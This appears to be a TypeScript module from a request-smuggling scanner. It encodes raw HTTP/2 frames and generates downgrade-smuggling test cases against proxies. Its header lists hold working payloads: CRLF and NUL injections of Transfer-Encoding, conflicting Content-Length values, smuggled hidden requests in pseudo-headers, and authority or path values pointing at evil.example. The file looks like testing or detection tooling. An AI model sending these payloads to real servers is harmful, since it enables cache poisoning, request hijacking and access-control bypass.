import type { Marks, SmugglingCase } from './smuggling.ts';

/** Requests of HTTP/2 that a proxy could write down wrongly as HTTP/1.1 (SEC15). */
const int = (value: number, prefix: number): number[] => {
  const most = 2 ** prefix - 1;
  if (value < most) return [value];
  const bytes = [most];
  let left = value - most;
  for (; left >= 128; left = Math.floor(left / 128)) bytes.push((left % 128) + 128);
  return [...bytes, left];
};

const literal = (text: string) =>
  Buffer.concat([Buffer.from(int(text.length, 7)), Buffer.from(text, 'latin1')]);

/** A header block of literals that no table keeps: any bytes may stand in it. */
const headerBlock = (headers: readonly (readonly [string, string])[]) =>
  Buffer.concat(headers.flatMap(([name, value]) => [Buffer.from([0x10]), literal(name), literal(value)]));

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const preface = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  frame(4, 0, 0, Buffer.alloc(0)),
]);

type Headers = readonly (readonly [string, string])[];

/** The bytes of a connection with one request. */
function request(headers: Headers, body: string | null): Buffer {
  const isBare = body === null;
  return Buffer.concat([
    preface,
    frame(1, isBare ? 0x5 : 0x4, 1, headerBlock(headers)),
    ...(isBare ? [] : [frame(0, 0x1, 1, Buffer.from(body, 'latin1'))]),
  ]);
}

/** Headers that come besides the four that every request has; `B` stands for a hidden request. */
const further: readonly (readonly [string, string])[] = [
  // Nothing is wrong with it: it is answered where HTTP/2 is spoken at all.
  ['x', 'y'],
  ['transfer-encoding', 'chunked'],
  ['transfer-encoding', 'identity, chunked'],
  ['Transfer-Encoding', 'chunked'],
  ['transfer-encoding\r\nx', 'chunked'],
  ['x', 'y\r\nTransfer-Encoding: chunked'],
  ['x', 'y\nTransfer-Encoding: chunked'],
  ['x', 'y\rTransfer-Encoding: chunked'],
  ['x', 'y\0Transfer-Encoding: chunked'],
  ['x', 'y\r\n\r\nB'],
  ['x', 'y\n\nB'],
  ['x: y\r\ntransfer-encoding', 'chunked'],
  ['x: y\r\n\r\nB', 'z'],
  ['x y', 'z'],
  ['x:y', 'z'],
  ['', 'z'],
  ['transfer-encoding ', 'chunked'],
  [' transfer-encoding', 'chunked'],
  ['content-length', '0'],
  ['content-length', '1'],
  ['content-length', '9999'],
  ['content-length', '-1'],
  ['content-length', '+5'],
  ['content-length', '0, 5'],
  ['content-length', '5\r\nContent-Length: 0'],
  ['connection', 'transfer-encoding'],
  ['connection', 'content-length'],
  ['keep-alive', 'timeout=5'],
  ['upgrade', 'h2c'],
  ['te', 'chunked'],
  ['host', 'evil.example'],
  ['expect', '100-continue'],
  [':path', '/films/second/'],
  [':status', '200'],
  [':x', 'y'],
];

/** Values in the place of one of the four headers that every request has; `C` stands for the address. */
const instead: readonly (readonly [string, string])[] = [
  [':method', 'GET C HTTP/1.1\r\nHost: H\r\n\r\nB'],
  [':method', 'GET /x'],
  [':method', 'get'],
  [':method', ''],
  [':path', 'C HTTP/1.1\r\nHost: H\r\n\r\nB'],
  [':path', 'C HTTP/1.1\nTransfer-Encoding: chunked\nX: y'],
  [':path', 'C HTTP/1.1'],
  [':path', 'C x'],
  [':path', 'films/x'],
  [':path', 'http://evil.example/'],
  [':path', ''],
  [':path', '*'],
  [':path', 'C\0'],
  [':path', 'C\t'],
  [':authority', 'H\r\nTransfer-Encoding: chunked'],
  [':authority', 'H\r\n\r\nB'],
  [':authority', 'evil.example'],
  [':authority', 'H@evil.example'],
  [':authority', ''],
  [':scheme', 'https://evil.example/?'],
  [':scheme', 'http\r\nX: y'],
  [':scheme', ''],
];

/** Every case for one host, each with marks of its own, as bytes of a connection of HTTP/2. */
export function downgradeCases(marksOf: (index: number) => Marks): readonly SmugglingCase[] {
  const cases: SmugglingCase[] = [];
  const add = (name: string, make: (marks: Marks, hidden: string) => readonly [Headers, string | null]) => {
    const marks = marksOf(cases.length);
    const hidden = `GET ${marks.hidden} HTTP/1.1\r\nHost: ${marks.host}\r\n\r\n`;
    cases.push({ name, bytes: request(...make(marks, hidden)) });
  };
  const four = ({ host, carrier }: Marks, method: string): Headers => [
    [':method', method],
    [':path', carrier],
    [':authority', host],
    [':scheme', 'https'],
  ];
  for (const method of ['GET', 'POST', 'DELETE', 'OPTIONS'])
    for (const [name, value] of further)
      for (const body of ['0\r\n\r\nB', 'B', null])
        add(`${method} ${name}: ${value} ${body === null ? 'bare' : body}`, (marks, hidden) => [
          [...four(marks, method), [name.replace('B', hidden), value.replace('B', hidden)]],
          body === null ? null : body.replace('B', hidden),
        ]);
  for (const [name, value] of instead)
    add(`${name}: ${value}`, (marks, hidden) => {
      const written = value.replace('C', marks.carrier).replace('H', marks.host).replace('B', hidden);
      return [four(marks, 'GET').map((one) => (one[0] === name ? [name, written] : one)), null];
    });
  return cases;
}
